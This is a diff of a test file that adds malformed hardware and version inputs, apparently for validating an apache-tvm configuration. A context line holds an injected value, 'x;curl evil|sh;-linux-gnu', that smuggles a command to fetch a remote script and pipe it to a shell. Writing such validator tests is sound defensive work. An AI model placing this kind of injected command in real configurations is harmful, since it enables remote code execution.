@@ -26,6 +26,11 @@ SPOILED: dict[str, Callable[[dict[str, Any]], object]] = {
     "a command in what is to be installed": lambda said: said["hardware"]["target"].update(
         mtriple="x;curl evil|sh;-linux-gnu"
     ),
+    "a version that is none": lambda said: said["versions"].update({"apache-tvm": "0.27\n<b>"}),
+    "a processor with lines": lambda said: said["hardware"]["target"].update(mcpu="a\nb"),
+    "cores in a word": lambda said: said["hardware"].update(cores="4"),
+    "a peak without an end": lambda said: said.update(peak={"flops": 1e999, "bandwidth": 1e9}),
+    "half a peak": lambda said: said.update(peak={"flops": 1e9}),
     "no cores": lambda said: said["hardware"].update(cores=0),
     "nothing": lambda said: said.clear(),
 }
